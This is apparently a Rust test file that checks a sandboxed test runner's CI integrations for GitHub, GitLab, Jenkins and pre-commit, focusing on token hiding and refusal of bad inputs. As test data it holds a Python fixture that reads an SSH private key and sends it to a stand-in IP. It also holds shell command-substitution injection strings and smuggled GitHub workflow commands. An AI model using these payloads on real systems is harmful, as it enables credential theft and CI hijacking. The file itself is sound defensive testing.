//! Integrations of `contrib/` with services of continuous integration, by the contracts of these services.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use hotcell_end_to_end::{User, everyone};

fn contrib(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../contrib").join(name)
}

/// Runs the step of the GitHub action as a runner does: inputs as variables, files for outputs and the summary.
fn github(user: &User, inputs: &[(&str, &str)]) -> (Output, String, String) {
    let step = contrib("github/run");
    let bash = hotcell_end_to_end::find("bash").expect("bash");
    let mut command: Command = user.program(&bash);
    let folder = user.binary().parent().expect("a folder").display().to_string();
    let output = user.write("work/github-output", "");
    let summary = user.write("work/github-summary", "");
    command.env_clear().arg(step).current_dir(user.path("work"));
    command.env("PATH", format!("{folder}:/usr/bin:/bin")).env("HOME", user.path("home"));
    command
        .env("GITHUB_OUTPUT", &output)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .env("GITHUB_TOKEN", "s3cret")
        .env("GITHUB_WORKSPACE", user.path("work"))
        .env("RUNNER_TEMP", user.path("work"));
    for (name, value) in inputs {
        command.env(name, value);
    }
    let ended = command.output().expect("bash starts");
    let text = |path| std::fs::read_to_string(path).expect("text");
    (ended, text(&output), text(&summary))
}

const TESTS: &str = "import os, unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        \
    self.assertEqual([name for name in os.environ if name.startswith('GITHUB')], [])\n    def test_b(self):\n        self.assertEqual(1, WANT)\n";

#[test]
fn github_action_gives_verdict_annotations_and_results() {
    everyone(|user| {
        user.make_folder("work/project");
        let options = "--framework\nunittest\n\n  --toolchain\n/usr  ";
        for (want, code, verdict) in [("1", 0, "passed"), ("2", 1, "failed")] {
            user.write("work/project/test_a.py", TESTS.replace("WANT", want));
            let inputs =
                [("INPUT_PROJECT", "project"), ("INPUT_OPTIONS", options), ("INPUT_RESULTS", "results")];
            let (ended, output, summary) = github(user, &inputs);
            let errors = String::from_utf8_lossy(&ended.stderr).into_owned();
            assert_eq!(ended.status.code(), Some(code), "{errors}");
            assert_eq!(output, format!("verdict={verdict}\nresults=results\n"));
            assert_eq!(errors.contains("::error file="), code == 1, "{errors}");
            assert!(summary.contains(verdict), "{summary}");
            let totals = if code == 0 { "passed: 2 passed in " } else { "failed: 1 passed, 1 failed in " };
            assert!(errors.lines().any(|line| line.starts_with(&format!("hotcell: {totals}"))), "{errors}");
            // The project has no `.git`; its files are found from the workflow's folder.
            assert_eq!(errors.contains("::error file=project/test_a.py"), code == 1, "{errors}");
            let receipt = user.path("work/results/receipt.json");
            let receipt = receipt.to_str().expect("UTF-8");
            user.hotcell(["receipt", "verify", "--passed", receipt]).end().code(code);
            let junit = std::fs::read_to_string(user.path("work/results/junit.xml")).expect("a file");
            assert!(junit.contains("<testsuites"), "{junit}");
        }
    });
}

/// Words of tests in the reason never become commands of the runner's.
#[test]
fn github_action_logs_reasons_as_plain_text() {
    let user = User::me();
    user.make_folder("work/project");
    let evil = "raise SystemExit('\\n::set-output name=x::y\\n##[add-path]/tmp')\n";
    user.write("work/project/test_a.py", evil);
    let inputs = [
        ("INPUT_PROJECT", "project"),
        ("INPUT_OPTIONS", "--framework\nunittest\n--toolchain\n/usr"),
        ("INPUT_RESULTS", "results"),
    ];
    let (ended, output, _) = github(&user, &inputs);
    let errors = String::from_utf8_lossy(&ended.stderr).into_owned();
    assert!(!ended.status.success() && !output.contains("passed"), "{errors}");
    assert!(errors.lines().any(|line| line.starts_with("hotcell: ")), "{errors}");
    let commands =
        |line: &str| line.trim_start().starts_with("::set-output") || line.contains("##[add-path]");
    assert!(!errors.lines().any(commands), "{errors}");
}

/// Inputs are never text of a script, and mistakes end red.
#[test]
fn github_action_refuses_odd_inputs() {
    let user = User::me();
    user.make_folder("work/project");
    let mark = user.path("work/mark");
    let evil = format!("$(touch {0}); `touch {0}`", mark.display());
    for (inputs, says) in [
        (vec![("INPUT_PROJECT", "nowhere")], "nowhere"),
        (vec![("INPUT_PROJECT", "--help")], ""),
        (vec![("INPUT_PROJECT", "project"), ("INPUT_OPTIONS", "--no-such-option")], "--no-such-option"),
        (vec![("INPUT_PROJECT", evil.as_str())], "touch"),
        (vec![("INPUT_PROJECT", "project"), ("INPUT_OPTIONS", evil.as_str())], ""),
        (vec![("INPUT_PROJECT", "project"), ("INPUT_VERSION", "1; touch x")], "is not one of a package"),
        (
            vec![("INPUT_PROJECT", "project"), ("INPUT_RESULTS", "/proc/none")],
            "::error::the folder for the results",
        ),
    ] {
        user.make_folder("work/hotcell-results");
        user.write("work/hotcell-results/junit.xml", "stale");
        let (ended, output, _) = github(&user, &inputs);
        let all = [ended.stdout, ended.stderr].concat();
        let said = String::from_utf8_lossy(&all).into_owned()
            + &std::fs::read_to_string(user.path("work/hotcell-results/report.json")).unwrap_or_default();
        // 1 would say that a test failed.
        assert_eq!(ended.status.code(), Some(125), "{inputs:?}: {said}");
        assert!(said.contains(says), "{inputs:?}: {said}");
        let junit = std::fs::read_to_string(user.path("work/hotcell-results/junit.xml")).unwrap_or_default();
        let has_results = output.contains("results=");
        assert!(!has_results || junit != "stale", "{inputs:?}: results of an earlier step are left");
        assert!(output.starts_with("verdict=refused\n"), "{inputs:?}: {output}");
        assert!(!mark.exists(), "{inputs:?}");
    }
}

/// A job of GitLab Runner's custom executor, with the calls and variables that its documentation names.
struct GitlabJob<'a> {
    user: &'a User,
    /// Folder of the runner for this job: its description, and the scripts.
    folder: PathBuf,
    project: PathBuf,
}

/// Value of the job's token.
const TOKEN: &str = "glcbt-64_s3cretTokenOfTheJob";
/// Exit statuses that the runner asks for; unlike any that a program has by chance.
const BUILD_FAILURE: i32 = 91;
const SYSTEM_FAILURE: i32 = 92;

impl<'a> GitlabJob<'a> {
    fn new(user: &'a User, script: &[&str], after: &[&str]) -> Self {
        for name in ["work/custom-executor1", "work/builds"] {
            user.make_folder(name);
        }
        let variable = |key: &str, value: &str, public: bool, masked: bool| serde_json::json!({ "key": key, "value": value, "public": public, "masked": masked });
        let description = serde_json::json!({
            "id": 64,
            "token": TOKEN,
            "variables": [
                variable("COLOUR", "red", true, false),
                variable("CI_JOB_TOKEN", TOKEN, false, true),
                variable("CI_REPOSITORY_URL", &format!("https://gitlab-ci-token:{TOKEN}@gitlab.example/a.git"), false, false),
                variable("SETTING", "of the project", false, false),
                variable("PATH", "/custom/bin", true, false),
                variable("HOME", "/nowhere", true, false),
                variable("TMPDIR", "/nowhere", true, false),
                variable("INDIRECT", "Bearer $CI_JOB_TOKEN", true, false),
            ],
            "steps": [{ "name": "script", "script": script }, { "name": "after_script", "script": after }],
        });
        user.write("work/custom-executor1/response.json", description.to_string());
        Self { user, folder: user.path("work/custom-executor1"), project: user.path("work/builds/a") }
    }

    fn call(&self, words: &[&str]) -> Output {
        let mut command = self.user.program(&contrib("gitlab/driver"));
        let folder = self.user.binary().parent().expect("a folder").display().to_string();
        command.env_clear().args(words).current_dir(self.user.path("work"));
        command.env("PATH", format!("{folder}:/usr/bin:/bin")).env("HOME", self.user.path("home"));
        command
            .env("BUILD_FAILURE_EXIT_CODE", BUILD_FAILURE.to_string())
            .env("SYSTEM_FAILURE_EXIT_CODE", SYSTEM_FAILURE.to_string())
            .env("BUILD_EXIT_CODE_FILE", self.folder.join("exit-code"))
            .env("JOB_RESPONSE_FILE", self.folder.join("response.json"))
            .env("CUSTOM_ENV_CI_JOB_TOKEN", TOKEN)
            .env("CUSTOM_ENV_CI_JOB_STATUS", "success")
            .env("CUSTOM_ENV_CI_PROJECT_DIR", &self.project)
            .env("CUSTOM_ENV_COLOUR", "red")
            .env("CUSTOM_ENV_SETTING", "of the project")
            .env("CUSTOM_ENV_INDIRECT", format!("Bearer {TOKEN}"));
        command.output().expect("the driver starts")
    }

    /// A call for a stage, with the script that the runner generated: as there, it holds every variable.
    #[track_caller]
    fn stage(&self, options: &[&str], stage: &str, generated: &str, code: i32) -> String {
        let text =
            format!("#!/usr/bin/env bash\nset -eo pipefail\nexport CI_JOB_TOKEN={TOKEN}\n{generated}\n");
        let script = self.user.write("work/custom-executor1/script", text);
        let words = [&["run"], options, &[script.to_str().expect("UTF-8"), stage]].concat();
        let ended = self.call(&words);
        let said = [ended.stdout, ended.stderr].concat();
        let said = String::from_utf8_lossy(&said).into_owned();
        assert_eq!(ended.status.code(), Some(code), "{stage}: {said}");
        assert!(!said.contains(TOKEN), "{stage}: {said}");
        said
    }

    fn checkout(&self) {
        let script = "mkdir -p a/.git/{objects,refs,hooks} && echo ref: refs/heads/main >a/.git/HEAD && test -n \"$CI_JOB_TOKEN\"";
        self.stage(
            &[],
            "get_sources",
            &format!("cd {}\n{script}", self.user.path("work/builds").display()),
            0,
        );
    }

    fn file(&self, name: &str) -> String {
        std::fs::read_to_string(self.project.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
    }
}

#[test]
fn gitlab_executor_runs_jobs_without_tokens() {
    everyone(|user| {
        let script = [
            "env >env.txt; cat \"$0\" >script.txt",
            "mkdir out\necho good >out/report.txt",
            "echo evil >.git/hooks/pre-commit",
        ];
        let job = GitlabJob::new(user, &script, &["echo $CI_JOB_STATUS >>out/report.txt"]);
        let config = job.call(&["config"]);
        let said: serde_json::Value = serde_json::from_slice(&config.stdout).expect("JSON");
        assert_eq!(
            (&said["driver"]["name"], &said["builds_dir_is_shared"]),
            (&"hotcell".into(), &true.into())
        );
        assert_eq!(job.call(&["prepare"]).status.code(), Some(0));
        job.stage(&[], "prepare_script", "echo on the host", 0);
        job.checkout();
        let said = job.stage(&["--env", "SETTING"], "step_script", "exit 77", 0);
        assert!(said.contains("$ mkdir out\necho good"), "{said}");
        assert!(said.contains("kept out of the sandbox, since a secret is in them: INDIRECT"), "{said}");
        assert!(said.contains("kept out of the sandbox, which has its own: HOME, PATH, TMPDIR"), "{said}");
        job.stage(&[], "after_script", "exit 77", 0);

        let inside = job.file("env.txt") + &job.file("script.txt");
        for there in ["COLOUR=red\n", "CI_PROJECT_DIR=/home/sandbox/project\n", "SETTING=of the project\n"] {
            assert!(inside.contains(there), "{there}: {inside}");
        }
        for absent in
            [TOKEN, "CUSTOM_ENV_", "INDIRECT", "JOB_RESPONSE_FILE", "CI_JOB_TOKEN", "/custom/bin", "/nowhere"]
        {
            assert!(!inside.contains(absent), "{absent}: {inside}");
        }
        // Results are on the host for the runner's own scripts; git's state is as it was.
        job.stage(&[], "upload_artifacts_on_success", "cd builds/a && grep good out/report.txt", 0);
        assert_eq!(job.file("out/report.txt"), "good\nsuccess\n");
        assert!(!job.project.join(".git/hooks/pre-commit").exists());
        assert_eq!(job.call(&["cleanup"]).status.code(), Some(0));
        let left = user.hotcell(["workspace", "list", "--json"]).end().code(0).json();
        assert_eq!(left["workspaces"].as_array().map(Vec::len), Some(0), "{left}");
    });
}

#[test]
fn gitlab_executor_tells_failed_jobs_from_failed_hosts() {
    let user = User::me();
    // Exit statuses of hotcell's own are the job's as well, if it chooses them.
    let job =
        GitlabJob::new(&user, &["echo kept >junit.xml", "exit 125", "echo never >junit.xml"], &["seq 10000"]);
    job.checkout();
    job.stage(&[], "step_script", "", BUILD_FAILURE);
    assert_eq!(job.file("junit.xml"), "kept\n");
    assert_eq!(std::fs::read_to_string(job.folder.join("exit-code")).expect("a file"), "125");
    job.stage(&["--max-output", "1K"], "after_script", "", BUILD_FAILURE);

    job.stage(&["--no-such-option"], "step_script", "", SYSTEM_FAILURE);
    job.stage(&["--image", "missing"], "step_script", "", SYSTEM_FAILURE);
    let said = job.stage(&[], "step_release", "", SYSTEM_FAILURE);
    assert!(said.contains("no step for the stage step_release"), "{said}");
    job.stage(&[], "restore_cache", "exit 1", SYSTEM_FAILURE);
    assert_eq!(job.call(&["run"]).status.code(), Some(SYSTEM_FAILURE));
    std::fs::remove_file(job.folder.join("response.json")).expect("ours");
    assert_eq!(job.call(&["prepare"]).status.code(), Some(SYSTEM_FAILURE));
}

/// Text of a file between two marks.
fn between<'a>(text: &'a str, from: &str, to: &str) -> &'a str {
    text.split_once(from).and_then(|(_, rest)| rest.split_once(to)).map(|(found, _)| found).expect(from)
}

#[test]
fn jenkins_step_leaves_results_beside_the_project() {
    let user = User::me();
    let pipeline = std::fs::read_to_string(contrib("jenkins/Jenkinsfile")).expect("a file");
    // As Jenkins runs a step: a file, by `sh -xe`, in the job's folder.
    let script = user.write("work/script.sh", between(&pipeline, "sh '''", "'''"));
    user.make_folder("work/project");
    let folder = user.binary().parent().expect("a folder").display().to_string();
    for (want, code) in [("1", 0), ("2", 1)] {
        user.write("work/project/test_a.py", TESTS.replace("WANT", want));
        let mut command = user.program(Path::new("/bin/sh"));
        command.arg("-xe").arg(&script).current_dir(user.path("work")).env_clear();
        command.env("PATH", format!("{folder}:/usr/bin:/bin")).env("HOME", user.path("home"));
        let ended = command.output().expect("sh starts");
        assert_eq!(ended.status.code(), Some(code), "{}", String::from_utf8_lossy(&ended.stderr));
        let junit = std::fs::read_to_string(user.path("work/results/junit.xml")).expect("a file");
        assert!(junit.contains("<testsuites"), "{junit}");
        assert!(user.path("work/results/receipt.json").exists());
    }
}

#[test]
fn pre_commit_hook_stops_dangerous_files() {
    let user = User::me();
    let hooks = contrib("../.pre-commit-hooks.yaml");
    let hooks = std::fs::read_to_string(hooks).expect("a file");
    // As pre-commit makes the command: entry, args, names of files. A name may look like an option.
    let entry: Vec<&str> = between(&hooks, "entry: ", "\n").split_whitespace().collect();
    let args = between(&hooks, "args: [\"", "\"]");
    assert_eq!(entry[0], "hotcell");
    let scan = |names: &[&str]| user.hotcell(entry[1..].iter().chain(&[args]).chain(names)).end();
    user.write("work/--fine.py", "print(6 * 7)\n");
    scan(&["--fine.py"]).code(0);
    let thief = "import os, urllib.request\nkeys = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                 urllib.request.urlopen('http://203.0.113.9/', data=keys.encode())\n";
    user.write("work/thief.py", thief);
    let refused = scan(&["--fine.py", "thief.py"]);
    refused.code(3);
    assert!(refused.text().contains("thief.py"), "{refused:?}");
}
